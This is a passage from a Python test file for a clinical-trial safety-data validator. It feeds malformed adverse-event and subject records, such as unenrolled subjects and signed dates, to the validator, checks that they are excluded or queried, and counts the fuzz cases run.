    validators/validate.py (_schema_reasons) dropped failures without a row, for every row of the
    source: an event of a subject never enrolled was counted in the safety tables.
    2 rows in = 2 excluded, each with its subject_known query."""
    data = MINI_AE_HEADER + (
        b"AE1,S9,tiredness,Fatigue,,1,2025-03-01,-2025-01-01,N,,not_recovered,unlikely,unlikely,dose_not_changed,dose_not_changed,\n"
        b"AE2,S9,tiredness,Fatigue,,1,2025-03-01,,N,,not_recovered,unlikely,unlikely,dose_not_changed,dose_not_changed,\n"
    )
    hostile = HostileFile("adverse_events", data, record_lines=(2, 3))
    _, result = fuzz_trial.validate(hostile)
    assert_accounted_for(result, hostile)
    assert result.excluded[ROW].to_list() == [2, 3]
    assert sorted(result.queries.filter(pl.col("check") == "subject_known")["row"].to_list()) == [2, 3]


@pytest.mark.slow
def test_a_date_with_a_sign_or_a_fifth_year_digit_is_not_a_date(tmp_path, capsys) -> None:
    """Polars reads "-2025-01-01" as the year -2025, which Python's dates cannot hold: the run
    stopped with an unexpected ValueError. It is a value that is not a date (YYYY-MM-DD): S1's
    enrolment date is queried and read as missing, and the run finishes with queries (exit 2)."""
    config = make_mini_trial(tmp_path / "trial")
    subjects = config.parent / "subjects.csv"
    subjects.write_text(subjects.read_text().replace("S1,01,Apatinib + anti-PD-1,M,52,2025-01-01,", "S1,01,Apatinib + anti-PD-1,M,52,-2025-01-01,"))
    assert main(["validate", str(config), "--out", str(tmp_path / "out")]) == 2
    assert "toxwatch: error" not in capsys.readouterr().err
    [published] = (tmp_path / "out" / "npc-apatinib-pd1").glob("*-validation")
    queries = pl.read_csv(published / "queries.csv", infer_schema=False)
    assert queries.filter((pl.col("record_key") == "S1") & (pl.col("field") == "enrolment_date"))["problem"].to_list() == [
        "enrolment_date is not a date (YYYY-MM-DD)"
    ]


@pytest.mark.slow
def test_the_properties_run_ten_thousand_cases(capsys) -> None:
    """The reliability issue's bar: at least 10,000 cases in CI. Prints how many cases each
    property ran in this session (it is the module's last test, so it runs after them)."""
    planned = PER_SOURCE_EXAMPLES * len(SOURCES) + WHOLE_TRIAL_EXAMPLES + COMMAND_LINE_EXAMPLES
    assert planned >= 10_000
    with capsys.disabled():
        print(f"\nfuzz cases run: {sum(CASES_RUN.values())} of {planned} planned ({dict(sorted(CASES_RUN.items()))})")
    if len(CASES_RUN) < len(SOURCES) + 2:
        pytest.skip("the properties did not all run in this session: run the whole module to count its cases")
    assert sum(CASES_RUN.values()) >= 10_000
